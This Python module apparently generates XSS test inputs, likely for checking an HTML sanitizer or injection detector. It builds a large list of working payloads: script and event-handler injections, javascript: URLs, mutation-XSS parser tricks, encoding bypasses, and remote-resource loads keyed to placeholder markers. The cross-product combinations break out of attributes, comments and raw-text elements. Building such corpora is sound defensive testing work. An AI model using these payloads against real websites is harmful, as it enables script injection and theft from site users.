"""Elements that run or load something, after what may end the place that they stand in."""

from __future__ import annotations

import base64
from itertools import product

from .signs import FETCH, RUN

_ENCODED = base64.b64encode(b"<script>alert(1)</script>").decode()

# What may stand before markup to leave the place that a value is written into.
BREAKS = (
    *("", '">', "'>", "'\">", '" ', "' ", "`>", "-->", "]]>", "*/", "}}", "</p>", "</div>"),
    *("</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</template>", "</svg>"),
    *("</math>", "</select>", "</a>", "</code>", "</pre>", "</h1>", "</article>", "</main>"),
    *("</body>", "</html>", "</table>", "</details>", "</summary>", "</li></ul>", '\\">', "%22>"),
)
TAGS = (
    "img",
    "svg",
    "body",
    "input",
    "video",
    "details",
    "a",
    "p",
    "x",
    "math",
    "iframe",
    "object",
)
EVENTS = (
    *("onerror", "onload", "onfocus", "ontoggle", "onclick", "onmouseover", "onanimationstart"),
    *("onpointerenter", "onbeforetoggle", "onscrollend", "OnErRoR", "on\u0131error"),
)
SPACES = (" ", "/", "\t", "\n", "\f", "\r", " / ", "/\u00a0")
MARKUP = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script/x>{RUN}</script>",
    f"<script src={FETCH}.js></script>",
    f"<script\n>{RUN}</script\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script>{RUN}//",
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=`x`onerror={RUN}>",
    f'<img src="{FETCH}.png">',
    f"<img srcset='{FETCH}.png 1x'>",
    f"<image href=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>{RUN}</svg>#x'>",
    f"<svg><foreignObject><iframe onload={RUN}></iframe></foreignObject></svg>",
    f"<svg><image href={FETCH}.svg /></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea>",
    f"<title><img title='</title><img src=x onerror={RUN}>'></title>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
    f"<noembed><p title='</noembed><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<select><option><style></option></select><img src=x onerror={RUN}></style>",
    f"<style>@import '{FETCH}.css';</style>",
    f"<style>body{{background:url({FETCH}.png);display:none}}</style>",
    f"<link rel=stylesheet href={FETCH}.css>",
    f"<link rel=preload as=image href={FETCH}.png>",
    f"<link rel=prefetch href={FETCH}>",
    f"<p style='background:url({FETCH}.png)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:999999;background:#fff'>x</p>",
    f"<p style='animation-name:x' onanimationstart={RUN}>x</p>",
    f"<base href={FETCH}/>",
    f"<meta http-equiv=refresh content='0;url=https:{FETCH}'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src={FETCH}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src=javascript:{RUN}>",
    f"<applet code={RUN}></applet>",
    f"<frameset onload={RUN}><frame src=javascript:{RUN}></frameset>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<form action=https:{FETCH}><input name=q autofocus></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<input autofocus onfocus={RUN}>",
    f"<input type=image src={FETCH}.png>",
    f"<video><source onerror={RUN}></video>",
    f"<video poster={FETCH}.png src={FETCH}.mp4 autoplay></video>",
    f"<audio src={FETCH}.mp3 autoplay>",
    f"<track src={FETCH}.vtt>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<body onload={RUN}>",
    f"<body background={FETCH}.png>",
    f"<table background={FETCH}.png><tr><td>x",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<a href='java&Tab;script&colon;{RUN}'>x</a>",
    f"<a ping={FETCH} href=#>x</a>",
    f"<a href='data:text/html;base64,{_ENCODED}'>x</a>",
    f"<a target=x onclick={RUN} href=#>x</a>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!--!><img src=x onerror={RUN}>-->",
    f"<!-- --!><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={RUN}>",
    f"<!DOCTYPE x [<!ENTITY e '<img src=x onerror={RUN}>'>]>&e;",
    f"<%<img src=x onerror={RUN}>%>",
    f"<\x00script>{RUN}</script>",
    f"<script\x00>{RUN}</script>",
    f"\ufeff<script>{RUN}</script>",
    f"<\u017fcript>{RUN}</\u017fcript>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"%3Cimg%20src=x%20onerror={RUN}%3E",
    f"<script>{RUN}<!--<script></script>",
    "<!--<script>",
    "</script><!--<script>",
    "<!--",
    "<",
    "</",
    "<!",
    "<?",
    "&",
    "&#",
    "&#x110000;&#0;&#xd800;",
)

AFTER_BREAKS = tuple(f"{before}{markup}" for before, markup in product(BREAKS[1:], MARKUP[:40:2]))
ELEMENT_EVENTS = tuple(
    f"<{tag}{space}{event}={quote}{RUN}{quote}{space}src=x autofocus tabindex=0>"
    for tag, event, space, quote in product(TAGS, EVENTS, SPACES, ("", '"'))
)
ATTRIBUTE_EVENTS = tuple(
    f"{quote}{space}{event}={quote}{RUN}{quote} x={quote}"
    for quote, space, event in product(('"', "'", "`", ""), SPACES, EVENTS)
)
